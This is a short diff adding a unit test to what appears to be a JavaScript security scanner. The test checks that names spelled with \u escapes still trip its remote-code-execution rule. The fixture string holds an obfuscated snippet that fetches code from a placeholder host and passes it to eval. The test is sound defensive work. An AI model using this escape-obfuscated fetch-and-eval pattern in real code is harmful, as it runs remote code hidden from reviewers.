@@ -24,3 +24,11 @@ describe('EJS scriptlets are analysed as JavaScript', () => {
     assert.deepEqual(r.errors, []);
   });
 });
+
+describe('prefilters read identifiers spelled with \\u escapes as the parser does', () => {
+  it('`\\u0065val` and `requir\\u0065(\'\\u0068ttps\')` still reach the execution rules', () => {
+    const code = "const \\u0068ttps = requir\\u0065('\\u0068ttps');\n\\u0068ttps.get('https://audit.example.invalid/s', (res) => {\n  let src = '';\n  res.on('data', (c) => (src += c));\n  res.on('end', () => { \\u0065\\u0076\\u0061\\u006c(src); });\n});\n";
+    const r = analyzeFile('plugins/auditTrail.js', enc.encode(code), selectRules());
+    assert.ok(r.findings.some((f) => f.ruleId === 'remote-code-execution' && f.line === 5), JSON.stringify(r.findings.map((f) => [f.ruleId, f.line])));
+  });
+});
